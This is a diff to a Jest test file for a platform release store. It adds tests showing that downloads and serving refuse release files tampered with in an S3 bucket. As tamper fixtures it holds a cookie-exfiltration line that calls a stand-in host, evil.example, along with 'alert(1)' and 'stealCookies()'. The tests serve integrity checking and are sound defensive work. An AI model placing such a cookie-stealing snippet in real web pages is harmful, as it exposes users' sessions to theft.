@@ -141,6 +141,42 @@ describe('the shared platform store', () => {
     );
   });
 
+  /** Writes an object straight into the bucket, as anyone with write access to it could. */
+  const putObject = async (Key: string, Body: string) => {
+    const { S3Client, PutObjectCommand } = await import('@aws-sdk/client-s3');
+    const client = new S3Client({
+      region: 'us-east-1',
+      endpoint: storeEnv.THRIVE_STORE_S3_ENDPOINT,
+      forcePathStyle: true,
+      credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
+    });
+    await client.send(new PutObjectCommand({ Bucket: BUCKET, Key, Body }));
+  };
+
+  it('refuses to bring down a release whose files in the bucket were changed or added (issue 40, M3)', async () => {
+    for (const [marker, key, body] of [
+      ['tampered', 'remoteEntry.js', 'fetch("https://evil.example/" + document.cookie)'],
+      ['added', 'assets/extra.js', 'alert(1)'],
+    ] as const) {
+      const record = publish(marker);
+      await store.releases.upload(
+        'auth',
+        record.version,
+        path.join(temp, 'publisher', 'releases', 'auth', record.version),
+      );
+      await putObject(`releases/auth/${record.version}/${key}`, body);
+      const to = path.join(temp, 'tamper-check', record.version);
+      await expect(store.releases.download('auth', record.version, to)).rejects.toThrow(
+        marker === 'tampered'
+          ? `auth release ${record.version}: remoteEntry.js does not match its SHA-256.`
+          : `auth release ${record.version}: assets/extra.js is not one of its files.`,
+      );
+      // Nothing of it is left to be served.
+      expect(fs.existsSync(to)).toBe(false);
+      expect(fs.readdirSync(path.dirname(to))).toEqual([]);
+    }
+  });
+
   it('a download removes the partial downloads of killed promotes (dead or stale), not a running one’s', async () => {
     const record = publish('partials');
     await store.releases.upload(
@@ -262,6 +298,55 @@ describe('the shared platform store', () => {
       serving.stopPollingSharedStore();
       await (await import('./index')).platformStore().close();
     } finally {
+      for (const name of [...Object.keys(storeEnv), 'THRIVE_ENV', 'THRIVE_PLATFORM_DIR']) {
+        if (!name.startsWith('AWS_')) delete process.env[name];
+      }
+    }
+  });
+
+  it('keeps serving the previous revision when the next names a release tampered with in the bucket (issue 40, M3)', async () => {
+    const servingDir = path.join(temp, 'serving-machine-2');
+    Object.assign(process.env, storeEnv, {
+      THRIVE_ENV: 'production',
+      THRIVE_PLATFORM_DIR: servingDir,
+    });
+    const errors = jest.spyOn(console, 'error').mockImplementation(() => {});
+    try {
+      jest.resetModules();
+      const serving = await import('../serving');
+      await serving.pollSharedStore(100);
+      const before = await store.environments.current('production');
+      const served = before.releases.auth!;
+      expect(serving.currentRuntimeConfig().remotes.auth.version).toBe(served.version);
+
+      const bad = publish('polled-bad');
+      await store.releases.upload(
+        'auth',
+        bad.version,
+        path.join(temp, 'publisher', 'releases', 'auth', bad.version),
+      );
+      await putObject(`releases/auth/${bad.version}/remoteEntry.js`, 'stealCookies()');
+      await store.environments.commit('production', before.revision, {
+        change: { action: 'promote', remote: 'auth', from: served.version, to: bad.version },
+        releases: { ...before.releases, auth: pinOf(bad) },
+        settings: before.settings,
+      });
+      await new Promise((resolve) => setTimeout(resolve, 400));
+      expect(serving.currentRuntimeConfig().remotes.auth.version).toBe(served.version);
+      expect(
+        fs.existsSync(path.join(servingDir, 'releases', 'auth', bad.version, 'remoteEntry.js')),
+      ).toBe(false);
+      const refused = errors.mock.calls
+        .map(([line]) => JSON.parse(String(line)) as { event: string; reason: string })
+        .filter((line) => line.event === 'revision-refused');
+      expect(refused).toHaveLength(1);
+      expect(refused[0]!.reason).toBe(
+        `auth release ${bad.version}: remoteEntry.js does not match its SHA-256.`,
+      );
+      serving.stopPollingSharedStore();
+      await (await import('./index')).platformStore().close();
+    } finally {
+      errors.mockRestore();
       for (const name of [...Object.keys(storeEnv), 'THRIVE_ENV', 'THRIVE_PLATFORM_DIR']) {
         if (!name.startsWith('AWS_')) delete process.env[name];
       }
